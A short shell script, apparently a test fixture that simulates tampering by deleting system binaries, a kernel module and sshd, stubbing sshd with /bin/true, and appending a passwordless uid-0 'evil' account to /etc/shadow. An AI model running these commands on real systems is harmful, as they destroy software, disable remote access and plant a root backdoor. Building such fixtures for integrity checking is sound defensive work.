# shellcheck shell=sh
# Programs, a driver and settings are gone or others, and their labels with them.

rm /usr/bin/factor "/lib/modules/$(uname -r)/kernel/fs/xfs/xfs.ko.xz" /usr/sbin/sshd
cp /bin/true /usr/sbin/sshd
echo 'greeting = none' >/etc/imitated.conf
cp /etc/shadow /etc/shadow.new
echo 'evil::0:0:99999:7:::' >>/etc/shadow.new
mv /etc/shadow.new /etc/shadow
